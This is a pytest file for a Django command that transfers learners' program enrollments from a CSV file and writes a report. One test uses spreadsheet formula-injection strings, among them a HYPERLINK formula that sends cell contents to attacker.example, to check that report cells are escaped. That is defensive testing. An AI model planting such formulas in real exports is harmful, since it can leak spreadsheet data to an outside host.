"""The transfer_program_enrollments command: a checked CSV file in, batches through the API, a report out."""

import csv
import io
import sys
import threading

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from program_enrollments import api
from program_enrollments.management.commands import transfer_program_enrollments as command
from program_enrollments.models import ProgramCourseEnrollment, ProgramEnrollment
from tests.api.helpers import enroll, enroll_course

pytestmark = pytest.mark.django_db

THIRD_COURSE = "course-v1:GTx+CS6262+2020_Spring"
KEYS = ["k0", "k1", "k2", "k3", "k4"]


@pytest.fixture
def learners(catalog):
    """Five waiting learners of Cybersecurity, active in two courses it shares with Other."""
    enroll(catalog.CYBERSECURITY, KEYS)
    for course in (catalog.SHARED_COURSE, catalog.SECOND_SHARED_COURSE):
        enroll_course(catalog.CYBERSECURITY, course, KEYS)
    return KEYS


def run(catalog, *args):
    """Call the command from Cybersecurity to Other; return (stdout, stderr)."""
    stdout, stderr = io.StringIO(), io.StringIO()
    call_command(
        "transfer_program_enrollments",
        "--from-program",
        str(catalog.CYBERSECURITY),
        "--to-program",
        str(catalog.OTHER),
        *args,
        stdout=stdout,
        stderr=stderr,
    )
    return stdout.getvalue(), stderr.getvalue()


def write_csv(tmp_path, text, name="learners.csv", encoding="utf-8"):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding) if isinstance(text, str) else text)
    return str(path)


def learners_file(tmp_path, keys, name="learners.csv"):
    return write_csv(tmp_path, "student_key,email\n" + "".join(f"{key},{key}@example.com\n" for key in keys), name)


def read_report(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def active_programs(catalog):
    """{(student key, course key): program} of every active program course enrollment."""
    names = {catalog.CYBERSECURITY: "cybersecurity", catalog.OTHER: "other", catalog.MIT: "mit"}
    return {
        (row.program_enrollment.external_user_key, str(row.course_key)): names[row.program_enrollment.program_uuid]
        for row in ProgramCourseEnrollment.objects.filter(status="active").select_related("program_enrollment")
    }


def snapshot():
    """Everything a transfer writes, to show that nothing was."""
    return (
        sorted(ProgramEnrollment.objects.values_list("program_uuid", "external_user_key", "status")),
        sorted(ProgramCourseEnrollment.objects.values_list("program_enrollment_id", "course_key", "status")),
        ProgramEnrollment.history.count(),
        ProgramCourseEnrollment.history.count(),
    )


def test_learners_file_transfers_each_learner_and_reports_it(catalog, learners, tmp_path):
    report = str(tmp_path / "report.csv")
    stdout, _ = run(
        catalog,
        "--learners",
        learners_file(tmp_path, ["k0", "K1"]),
        "--source-status",
        "canceled",
        "--report",
        report,
        "--batch-size",
        "1",
    )
    courses = f"{catalog.SHARED_COURSE} {catalog.SECOND_SHARED_COURSE}"
    assert read_report(report) == [
        ["student_key", "status", "courses", "detail"],
        ["k0", "transferred", courses, ""],
        ["K1", "transferred", courses, ""],
    ]
    moved = {key for (key, _), program in active_programs(catalog).items() if program == "other"}
    assert moved == {"k0", "k1"}
    statuses = dict(
        ProgramEnrollment.objects.filter(program_uuid=catalog.CYBERSECURITY).values_list("external_user_key", "status")
    )
    assert statuses == {"k0": "canceled", "k1": "canceled", "k2": "enrolled", "k3": "enrolled", "k4": "enrolled"}
    assert "2 learners in" in stdout
    assert "learners/s" in stdout
    assert "  transferred: 2" in stdout
    assert "nothing was written" not in stdout


FORMULA_KEYS = ['=HYPERLINK("https://attacker.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_report_cells_that_would_run_as_formulas_start_with_a_quote(catalog, tmp_path):
    """Partner-supplied keys are written so that a spreadsheet shows them as text (OWASP CSV injection)."""
    enroll(catalog.CYBERSECURITY, FORMULA_KEYS)
    enroll_course(catalog.CYBERSECURITY, catalog.SHARED_COURSE, FORMULA_KEYS)
    report = str(tmp_path / "report.csv")
    run(
        catalog,
        "--learners",
        write_csv(
            tmp_path, "student_key\n" + "".join(f'"{key.replace(chr(34), chr(34) * 2)}"\n' for key in FORMULA_KEYS)
        ),
        "--report",
        report,
    )
    rows = read_report(report)
    assert [row[:2] for row in rows[1:]] == [["'" + key, "transferred"] for key in FORMULA_KEYS]
    assert moved_keys(catalog) == set(FORMULA_KEYS)


def moved_keys(catalog):
    return {key for (key, _), program in active_programs(catalog).items() if program == "other"}


def test_all_transfers_every_learner_of_the_source_program(catalog, learners, tmp_path):
    report = str(tmp_path / "report.csv")
    stdout, _ = run(catalog, "--all", "--batch-size", "2", "--report", report)
    assert set(active_programs(catalog).values()) == {"other"}
    assert len(active_programs(catalog)) == 2 * len(KEYS)
    assert sorted(row[:2] for row in read_report(report)[1:]) == [[key, "transferred"] for key in KEYS]
    assert "  transferred: 5" in stdout


@pytest.mark.parametrize("header", ["Student_Key", "STUDENT_KEY", "  student_key ", "\tStudent_key"])
def test_the_student_key_header_is_found_in_any_case_and_with_spaces_around(catalog, learners, tmp_path, header):
    path = write_csv(tmp_path, f"email,{header},name\nk0@example.com,k0,Ann\nk1@example.com,K1,Bob\n")
    stdout, _ = run(catalog, "--learners", path)
    assert "  transferred: 2" in stdout
    assert moved_keys(catalog) == {"k0", "k1"}


def test_two_student_key_columns_differing_in_case_are_refused(catalog, learners, tmp_path):
    before = snapshot()
    path = write_csv(tmp_path, "student_key,Student_Key\nk0,k1\n")
    with pytest.raises(
        CommandError, match=r"the header row has 2 student_key columns: 'student_key' \(column 1\), 'Student_Key'"
    ):
        run(catalog, "--learners", path)
    assert snapshot() == before


def test_a_spreadsheet_file_with_a_byte_order_mark_and_blank_lines_is_read(catalog, learners, tmp_path):
    path = write_csv(tmp_path, "name,student_key\r\nA,k0\r\n\r\nB,k1\r\n", encoding="utf-8-sig")
    stdout, _ = run(catalog, "--learners", path)
    assert "  transferred: 2" in stdout


@pytest.mark.parametrize(
    "courses, moved",
    [
        (["SECOND_SHARED_COURSE"], {"SECOND_SHARED_COURSE"}),
        (["SHARED_COURSE", "SECOND_SHARED_COURSE"], {"SHARED_COURSE", "SECOND_SHARED_COURSE"}),
    ],
)
def test_course_options_move_only_those_courses(catalog, learners, tmp_path, courses, moved):
    enroll_course(catalog.CYBERSECURITY, THIRD_COURSE, KEYS)
    args = [arg for name in courses for arg in ("--course", getattr(catalog, name))]
    run(catalog, "--learners", learners_file(tmp_path, ["k0"]), *args)
    expected = {getattr(catalog, name) for name in moved}
    active = active_programs(catalog)
    assert {course for (key, course), program in active.items() if key == "k0" and program == "other"} == expected
    assert {course for (key, course), program in active.items() if key == "k0" and program == "cybersecurity"} == {
        catalog.SHARED_COURSE,
        catalog.SECOND_SHARED_COURSE,
        THIRD_COURSE,
    } - expected


def test_dry_run_reports_and_writes_nothing(catalog, learners, tmp_path):
    before = snapshot()
    report = str(tmp_path / "report.csv")
    stdout, _ = run(catalog, "--learners", learners_file(tmp_path, KEYS), "--dry-run", "--report", report)
    assert snapshot() == before
    assert {row[1] for row in read_report(report)[1:]} == {"would-transfer"}
    assert "Dry run: nothing was written." in stdout
    assert "  would-transfer: 5" in stdout


def test_rerun_with_the_full_file_resumes_after_the_learners_already_moved(catalog, learners, tmp_path):
    run(catalog, "--learners", learners_file(tmp_path, KEYS[:2], "first_half.csv"), "--source-status", "canceled")
    report = str(tmp_path / "report.csv")
    stdout, _ = run(
        catalog, "--learners", learners_file(tmp_path, KEYS), "--source-status", "canceled", "--report", report
    )
    assert [row[:2] for row in read_report(report)[1:]] == [
        ["k0", "already-transferred"],
        ["k1", "already-transferred"],
        ["k2", "transferred"],
        ["k3", "transferred"],
        ["k4", "transferred"],
    ]
    assert "  transferred: 3" in stdout
    assert "  already-transferred: 2" in stdout
    assert set(active_programs(catalog).values()) == {"other"}


def test_interrupted_run_leaves_a_report_of_the_committed_batches_and_resumes(catalog, learners, tmp_path, monkeypatch):
    transfer = api.iter_transfer_program_enrollments
    calls = []

    def interrupted_on_the_second_batch(**kwargs):
        if kwargs["student_keys"]:
            calls.append(kwargs["student_keys"])
            if len(calls) == 2:
                raise KeyboardInterrupt
        return transfer(**kwargs)

    monkeypatch.setattr(api, "iter_transfer_program_enrollments", interrupted_on_the_second_batch)
    path, report = learners_file(tmp_path, KEYS), str(tmp_path / "report.csv")
    with pytest.raises(CommandError, match=r"Interrupted after 2 of 5 learners .*Run the same command again"):
        run(catalog, "--learners", path, "--report", report, "--batch-size", "2")
    assert read_report(report) == [
        ["student_key", "status", "courses", "detail"],
        ["k0", "transferred", f"{catalog.SHARED_COURSE} {catalog.SECOND_SHARED_COURSE}", ""],
        ["k1", "transferred", f"{catalog.SHARED_COURSE} {catalog.SECOND_SHARED_COURSE}", ""],
    ]
    assert {key for (key, _), program in active_programs(catalog).items() if program == "other"} == {"k0", "k1"}

    monkeypatch.setattr(api, "iter_transfer_program_enrollments", transfer)
    run(catalog, "--learners", path, "--report", report, "--batch-size", "2")
    assert [row[1] for row in read_report(report)[1:]] == ["already-transferred"] * 2 + ["transferred"] * 3


def test_a_learner_that_cannot_be_moved_fails_the_command_after_the_others_move(catalog, learners, tmp_path):
    enroll(catalog.CYBERSECURITY, ["idle"])
    report = str(tmp_path / "report.csv")
    stdout, stderr = io.StringIO(), io.StringIO()
    with pytest.raises(CommandError, match=r"2 of 4 learners were not transferred \(.*not-in-program: 1") as error:
        call_command(
            "transfer_program_enrollments",
            f"--from-program={catalog.CYBERSECURITY}",
            f"--to-program={catalog.OTHER}",
            f"--learners={learners_file(tmp_path, ['k0', 'stranger', 'idle', 'k1'])}",
            f"--report={report}",
            stdout=stdout,
            stderr=stderr,
        )
    assert "nothing-to-transfer: 1" in str(error.value)
    assert report in str(error.value)
    assert "stranger: not-in-program" in stderr.getvalue()
    assert "  transferred: 2" in stdout.getvalue()
    assert [row[:2] for row in read_report(report)[1:]] == [
        ["k0", "transferred"],
        ["stranger", "not-in-program"],
        ["idle", "nothing-to-transfer"],
        ["k1", "transferred"],
    ]
    assert {key for (key, _), program in active_programs(catalog).items() if program == "other"} == {"k0", "k1"}


def test_dry_run_of_a_learner_that_cannot_be_moved_fails_too(catalog, learners, tmp_path):
    with pytest.raises(CommandError, match=r"1 of 2 learners would not be transferred \(not-in-program: 1\)"):
        run(catalog, "--learners", learners_file(tmp_path, ["k0", "stranger"]), "--dry-run")


@pytest.mark.parametrize(
    "args, message",
    [
        (["--to-program", "00000000-0000-0000-0000-000000000000"], "Program 00000000-0000-0000-0000-000000000000 does"),
        (["--to-program", "509c2e6c-f4e2-5b32-bc77-5137159b0719"], "must differ"),
        (["--to-curriculum", "8f6bcfd1-48ca-5ba6-ae52-0572a322788d"], "is not a curriculum of program"),
        (["--course", "course-v1:GTx+LONE+2020_Spring"], r"Not in program .*: course-v1:GTx\+LONE\+2020_Spring"),
        (["--course", "bad key"], "not a valid course key"),
        (["--source-status", "gone"], "source_status must be one of"),
    ],
)
@pytest.mark.parametrize("learner_option", ["--learners", "--all"])
def test_bad_arguments_fail_before_anything_is_written(catalog, learners, tmp_path, args, message, learner_option):
    selection = ["--learners", learners_file(tmp_path, KEYS)] if learner_option == "--learners" else ["--all"]
    report = tmp_path / "report.csv"
    before = snapshot()
    with pytest.raises(CommandError, match=message):
        call_command(
            "transfer_program_enrollments",
            "--from-program",
            str(catalog.CYBERSECURITY),
            *(["--to-program", str(catalog.OTHER)] if "--to-program" not in args else []),
            *args,
            *selection,
            "--report",
            str(report),
            stdout=io.StringIO(),
        )
    assert snapshot() == before
    assert not report.exists()


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", r"is empty: expected a header row with a student_key column"),
        (
            b"name,email\nk0,a@example.com\n",
            r"the header row has no student_key column \(columns found: 'name', 'email'\)",
        ),
        (b"student_key\nk0\nk\xe9\n", r"line 3 is not valid UTF-8"),
        (b'student_key,name\nk0,"Ann\nk1,Bob\n', r"lines 2-3: malformed CSV: unexpected end of data"),
        (b'student_key,name\nk0,"Ann"x\nk1,Bob\n', r"line 2: malformed CSV"),
        (b"student_key,name\nk0,Ann\n  ,Bob\n", r"line 3: blank student_key"),
        (b"name,student_key\nAnn\n", r"line 2: blank student_key"),
        (b"student_key\nk0\n" + b"x" * 256 + b"\n", r"line 3: student_key is longer than 255 characters"),
        (
            b"student_key\nk0\nk\x00\n",
            r"line 3: student_key must not contain control, format or other invisible characters "
            r"\(U\+0000 at position 1\)",
        ),
        (
            b"student_key\nk0\nk1\n\nK0\n",
            r"line 5: student_key 'K0' repeats line 2 \(case, width and Unicode normalization are ignored\)",
        ),
        (b"student_key\n", r"lists no learners"),
    ],
)
def test_invalid_learners_file_fails_before_anything_is_written(catalog, learners, tmp_path, content, message):
    report = tmp_path / "report.csv"
    before = snapshot()
    with pytest.raises(CommandError, match=message):
        run(catalog, "--learners", write_csv(tmp_path, content), "--report", str(report))
    assert snapshot() == before
    assert not report.exists()


def test_every_invalid_row_is_listed_at_once(catalog, learners, tmp_path):
    path = write_csv(tmp_path, 'student_key\nk0\n""\nk1\nK1\n')
    with pytest.raises(CommandError, match=r"2 invalid row\(s\); nothing was transferred") as error:
        run(catalog, "--learners", path)
    assert "line 3: blank student_key" in str(error.value)
    assert "line 5: student_key 'K1' repeats line 4" in str(error.value)


def test_many_invalid_rows_are_counted_and_the_first_listed_in_line_order(catalog, learners, tmp_path):
    """Repeats (found apart from the other problems) and blank keys are merged in line order."""
    lines = ["student_key"]
    for index in range(15):
        lines += [f"key-{index}", f"KEY-{index}", " "]  # lines 3i+2, 3i+3 (a repeat), 3i+4 (blank)
    before = snapshot()
    with pytest.raises(CommandError, match=r"30 invalid row\(s\); nothing was transferred") as error:
        run(catalog, "--learners", write_csv(tmp_path, "\n".join(lines) + "\n"))
    listed = str(error.value).splitlines()[1:]
    expected = []
    for index in range(10):
        expected += [
            f"  line {3 * index + 3}: student_key 'KEY-{index}' repeats line {3 * index + 2} "
            "(case, width and Unicode normalization are ignored)",
            f"  line {3 * index + 4}: blank student_key",
        ]
    assert listed == [*expected, "  ... and 10 more"]
    assert snapshot() == before


def test_a_key_repeated_across_batches_is_caught(catalog, learners, tmp_path):
    before = snapshot()
    with pytest.raises(CommandError, match="line 7: student_key 'k0' repeats line 2"):
        run(catalog, "--learners", learners_file(tmp_path, [*KEYS, "k0"]), "--batch-size", "2")
    assert snapshot() == before


def test_missing_learners_file(catalog, learners, tmp_path):
    with pytest.raises(CommandError, match=r"Cannot read .*missing\.csv: No such file or directory"):
        run(catalog, "--learners", str(tmp_path / "missing.csv"))


def test_report_may_not_overwrite_the_learners_file(catalog, learners, tmp_path):
    path = learners_file(tmp_path, KEYS)
    with pytest.raises(CommandError, match="must not overwrite the --learners file"):
        run(catalog, "--learners", path, "--report", path)
    assert read_report(path)[1] == ["k0", "k0@example.com"]


@pytest.mark.parametrize(
    "args, message",
    [
        ([], "one of the arguments --learners --all is required"),
        (["--all", "--learners", "x.csv"], "not allowed with argument"),
        (["--all", "--batch-size", "0"], "--batch-size must be at least 1, not 0"),
        (["--all", "--workers", "0"], "--workers must be at least 1, not 0"),
        (["--all", "--to-curriculum", "nope"], "argument --to-curriculum: invalid UUID value: 'nope'"),
    ],
)
def test_malformed_command_lines_are_refused(catalog, learners, args, message):
    before = snapshot()
    with pytest.raises(CommandError, match=message):
        run(catalog, *args)
    assert snapshot() == before


@pytest.mark.skipif(connection.vendor != "sqlite", reason="SQLite's limit; other databases take several workers")
def test_sqlite_takes_one_worker(catalog, learners, tmp_path):
    before = snapshot()
    with pytest.raises(CommandError, match="--workers: SQLite takes one writer at a time"):
        run(catalog, "--learners", learners_file(tmp_path, KEYS), "--workers", "2")
    assert snapshot() == before
    stdout, _ = run(catalog, "--learners", learners_file(tmp_path, KEYS), "--workers", "1")
    assert "  transferred: 5" in stdout


@pytest.mark.skipif(connection.vendor == "sqlite", reason="SQLite takes one worker whether in a transaction or not")
def test_inside_a_transaction_batches_run_one_at_a_time(catalog, learners, tmp_path, monkeypatch):
    # The test's transaction holds the learners; another connection would not see them.
    assert command._workers(4) == 1
    threads = []
    transfer = api.iter_transfer_program_enrollments

    def recorded(**kwargs):
        threads.append(threading.current_thread())
        return transfer(**kwargs)

    monkeypatch.setattr(api, "iter_transfer_program_enrollments", recorded)
    stdout, _ = run(catalog, "--learners", learners_file(tmp_path, KEYS), "--workers", "4", "--batch-size", "2")
    assert "  transferred: 5" in stdout
    assert set(threads) == {threading.current_thread()}


def test_progress_bar_is_silent_when_not_on_a_terminal(catalog, learners, tmp_path, capsys):
    call_command(
        "transfer_program_enrollments",
        f"--from-program={catalog.CYBERSECURITY}",
        f"--to-program={catalog.OTHER}",
        f"--learners={learners_file(tmp_path, KEYS)}",
    )
    captured = capsys.readouterr()
    assert "  transferred: 5" in captured.out
    for output in (captured.out, captured.err):
        assert "\r" not in output
        assert "|" not in output
        assert "Transferring" not in output


class _Terminal(io.StringIO):
    def isatty(self):
        return True


def test_progress_bar_is_drawn_on_a_terminal(catalog, learners, tmp_path, monkeypatch):
    terminal = _Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    call_command(
        "transfer_program_enrollments",
        f"--from-program={catalog.CYBERSECURITY}",
        f"--to-program={catalog.OTHER}",
        f"--learners={learners_file(tmp_path, KEYS)}",
        stdout=_Terminal(),
    )
    assert "Transferring: 100%" in terminal.getvalue()
    assert "5/5" in terminal.getvalue()


def test_failures_listed_on_stderr_are_capped(catalog, learners, tmp_path):
    strangers = [f"stranger{index}" for index in range(25)]
    stderr = io.StringIO()
    with pytest.raises(CommandError, match=r"25 of 25 learners were not transferred .*give --report OUT\.csv"):
        call_command(
            "transfer_program_enrollments",
            f"--from-program={catalog.CYBERSECURITY}",
            f"--to-program={catalog.OTHER}",
            f"--learners={learners_file(tmp_path, strangers)}",
            stdout=io.StringIO(),
            stderr=stderr,
        )
    lines = stderr.getvalue().splitlines()
    assert lines[:2] == ["stranger0: not-in-program", "stranger1: not-in-program"]
    assert len(lines) == 21
    assert lines[-1] == "... and 5 more."
